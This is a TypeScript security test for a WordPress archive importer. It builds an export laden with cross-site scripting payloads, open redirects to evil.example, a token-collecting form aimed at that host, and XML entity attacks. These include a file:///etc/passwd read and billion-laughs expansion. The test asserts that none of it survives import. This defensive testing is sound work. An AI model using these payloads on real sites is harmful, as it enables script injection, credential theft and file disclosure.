import assert from 'node:assert/strict'
import { createServer } from 'node:http'
import type { AddressInfo } from 'node:net'
import { writeFileSync } from 'node:fs'
import { join } from 'node:path'
import type { TestContext } from 'node:test'
import { type DefaultTreeAdapterTypes as Tree, parse } from 'parse5'
import { importWordpress } from '#imports/index.ts'
import { clock } from '#platform/mint.ts'
import { onEachDatabase, type TestDatabase } from '../harness/databases.ts'
import { makeFolder } from '../harness/folder.ts'
import { openPaper } from '../harness/paper.ts'
import { lures, payloads } from './hostile.ts'
import { everyRow } from './tables.ts'

const escaped = (text: string): string =>
  text.replaceAll('&', '&amp;').replaceAll('<', '&lt;').replaceAll('"', '&quot;')
const cdata = (text: string): string => `<![CDATA[${text.replaceAll(']]>', ']]]]><![CDATA[>')}]]>`
const readable = (text: string): string => text.replaceAll('\u0001', '')

/** An archive in which everything that another system can hold holds something that would run, or lead away. */
function hostileExport(): string {
  const items = payloads.map(readable).map((evil, at) => {
    const lure = readable(lures[at % lures.length] ?? '')
    const content = [
      evil,
      `<a href="${escaped(lure)}" onclick="__pwned=1">x</a>`,
      `<img src="x" onerror="__pwned=1" alt="${escaped(evil)}">`,
      `<iframe src="${escaped(lure)}"></iframe>`,
      `<!-- wp:html --><script>__pwned=1</script><!-- /wp:html -->`,
      `[caption onload="__pwned=1"]${evil}[/caption]`,
      `<table style="position:fixed"><tr><td onmouseover="__pwned=1">${evil}</td></tr></table>`,
      `<form action="https://evil.example"><input name="token"></form><base href="https://evil.example"><meta http-equiv="refresh" content="0;url=https://evil.example">`,
    ]
    const link = [
      `https://old.example//evil.example/${at}`,
      `https://old.example/\\evil.example/${at}`,
      `https://old.example/%2F%2Fevil.example/${at}`,
      `https://old.example/newsroom/stories/${at}`,
      `javascript:__pwned=${at}`,
    ][at % 5]
    return `<item><title>${cdata(evil)}</title><link>${escaped(link ?? '')}</link><pubDate>Mon, 05 May 2014 08:00:00 +0000</pubDate><dc:creator>${cdata('mreed')}</dc:creator><guid isPermaLink="false">https://old.example//evil.example/?p=${at}</guid><content:encoded>${cdata(content.join('\n\n'))}</content:encoded><excerpt:encoded>${cdata(evil)}</excerpt:encoded><wp:post_id>${at + 10}</wp:post_id><wp:post_date_gmt>2014-05-05 08:00:00</wp:post_date_gmt><wp:post_name>${cdata(`evil-${at}`)}</wp:post_name><wp:status>publish</wp:status><wp:post_type>post</wp:post_type><category domain="category" nicename="c${at}">${cdata(evil)}</category><category domain="post_tag" nicename="${escaped(`t${at}"onload=1 /../..`)}">${cdata(evil)}</category><wp:postmeta><wp:meta_key>_wp_old_slug</wp:meta_key><wp:meta_value>${cdata('/evil.example//')}</wp:meta_value></wp:postmeta><wp:comment><wp:comment_id>${at + 1}</wp:comment_id><wp:comment_author>${cdata(evil)}</wp:comment_author><wp:comment_author_url>javascript:__pwned=1</wp:comment_author_url><wp:comment_author_email>secret@reader.example</wp:comment_author_email><wp:comment_author_IP>6.6.6.6</wp:comment_author_IP><wp:comment_date_gmt>2014-05-06 08:00:00</wp:comment_date_gmt><wp:comment_content>${cdata(`${evil} <a href="javascript:__pwned=1">x</a>`)}</wp:comment_content><wp:comment_approved>1</wp:comment_approved></wp:comment></item>`
  })
  const evil = escaped(readable(payloads[1] ?? ''))
  return `<?xml version="1.0" encoding="UTF-8"?><rss version="2.0" xmlns:excerpt="http://wordpress.org/export/1.2/excerpt/" xmlns:content="http://purl.org/rss/1.0/modules/content/" xmlns:dc="http://purl.org/dc/elements/1.1/" xmlns:wp="http://wordpress.org/export/1.2/"><channel><title>${evil}</title><link>https://old.example</link><description>${evil}</description><language>"&gt;&lt;script&gt;</language><wp:wxr_version>1.2</wp:wxr_version><wp:base_site_url>https://old.example</wp:base_site_url><wp:base_blog_url>https://old.example</wp:base_blog_url><wp:author><wp:author_id>2</wp:author_id><wp:author_login>mreed</wp:author_login><wp:author_display_name>${evil}</wp:author_display_name></wp:author>${items.join('\n')}</channel></rss>`
}

async function bringIn(
  t: TestContext,
  store: TestDatabase,
  xml: string,
): Promise<Awaited<ReturnType<typeof importWordpress>>> {
  const file = join(makeFolder(t, 'import'), 'hostile.xml')
  writeFileSync(file, xml)
  return importWordpress({
    store,
    files: [file],
    dryRun: false,
    report: null,
    clock,
    progress: () => {},
    signal: new AbortController().signal,
  })
}

/** What of a page could run, or lead a reader away unasked. */
function dangers(node: Tree.Node): readonly string[] {
  const own = 'attrs' in node ? dangersOf(node) : []
  return [...own, ...('childNodes' in node ? node.childNodes.flatMap(dangers) : [])]
}
function dangersOf({ tagName, attrs }: Tree.Element): readonly string[] {
  const value = (name: string) => attrs.find((attr) => attr.name === name)?.value
  const isData = tagName === 'script' && value('type') === 'application/ld+json'
  const isFurniture = tagName === 'form' && value('action') === '/search'
  // A text may well say `//elsewhere.example`; where stories stand is asked of the sitemap.
  const allowed = /^(?:https?:\/\/|mailto:|tel:|\/|#|[^:/\\]*$)/
  return [
    ...(/^(?:script|iframe|object|embed|base|form|svg|math|style)$/.test(tagName) && !isData && !isFurniture
      ? [tagName]
      : []),
    ...(tagName === 'meta' && value('http-equiv') ? ['meta http-equiv'] : []),
    ...attrs.flatMap(({ name, value }) =>
      /^on|^style$|^srcdoc$/.test(name) || (/^(?:href|src|action)$/.test(name) && !allowed.test(value))
        ? [`${tagName} ${name}=${value}`]
        : [],
    ),
  ]
}

onEachDatabase(
  'A6: whatever a hostile archive holds, its pages run nothing, lead nowhere and tell no secret',
  async (t, db) => {
    const outcome = await bringIn(t, db, hostileExport())
    assert.ok(outcome.ok)
    const paper = await openPaper(t, db)
    await paper.app.settle()
    const get = async (path: string) => (await paper.anonymous.get(path)).text()
    const paths = [...(await get('/sitemap.xml')).matchAll(/<loc>([^<]+)<\/loc>/g)].map(
      ([, address = '']) => {
        const url = new URL(address.replaceAll('&amp;', '&'))
        assert.equal(url.origin, paper.origin)
        return url.pathname
      },
    )
    const stories = paths.filter((path) => !/^\/(?:$|section|about|corrections)/.test(path))
    assert.ok(stories.length >= payloads.length - 2, `${stories.length} stories stand`)
    for (const path of [...paths, '/archive', '/archive/2014/05/05', '/search?q=pwned', '/feed.xml']) {
      const html = await get(path)
      if (path !== '/feed.xml') assert.deepEqual(dangers(parse(html)), [], path)
      assert.doesNotMatch(html, /secret@reader|6\.6\.6\.6/, path)
    }
    for (const path of [
      '//evil.example/0',
      '/evil.example/0',
      '/?p=10',
      '/?p=12',
      '/newsroom/stories/3',
      '/evil.example//',
    ]) {
      const response = await paper.anonymous.get(path)
      assert.match(response.headers.get('location') ?? '/', /^\/(?![/\\])/, path)
      await response.body?.cancel()
    }
    assert.equal(
      (await paper.anonymous.get('/newsroom/stories/3')).status,
      303,
      'the newsroom’s addresses stay the newsroom’s',
    )
  },
)

onEachDatabase(
  'A6: entities that fetch, read files or multiply bring nothing in, and nobody is called',
  async (t, db) => {
    const calls: string[] = []
    const bait = createServer((request, response) => {
      calls.push(request.url ?? '')
      response.end('<!ENTITY x "y">')
    })
    await new Promise<void>((resolve) => bait.listen(0, '127.0.0.1', resolve))
    t.after(() => bait.close())
    const { port } = bait.address() as AddressInfo
    const before = await everyRow(db)
    const laughs = Array.from(
      { length: 10 },
      (_, at) => `<!ENTITY l${at + 1} "${`&l${at};`.repeat(10)}">`,
    ).join('')
    const declarations = [
      `<!DOCTYPE rss SYSTEM "http://127.0.0.1:${port}/dtd">`,
      `<!DOCTYPE rss [<!ENTITY x SYSTEM "http://127.0.0.1:${port}/x">]>`,
      '<!DOCTYPE rss [<!ENTITY x SYSTEM "file:///etc/passwd">]>',
      `<!DOCTYPE rss [<!ENTITY % p SYSTEM "http://127.0.0.1:${port}/p"> %p;]>`,
      `<!DOCTYPE rss [<!ENTITY l0 "lol">${laughs}]>`,
    ]
    for (const declaration of declarations) {
      const body = hostileExport()
        .replace('?>', `?>${declaration}`)
        .replace('<description>', '<description>&x;&l10;')
      const began = process.memoryUsage().rss
      const outcome = await bringIn(t, db, body)
      assert.ok(!outcome.ok && /document type/.test(outcome.sentence), declaration.slice(0, 60))
      assert.ok(process.memoryUsage().rss - began < 100 * 2 ** 20)
    }
    assert.deepEqual(calls, [])
    assert.deepEqual(await everyRow(db), before)
  },
)
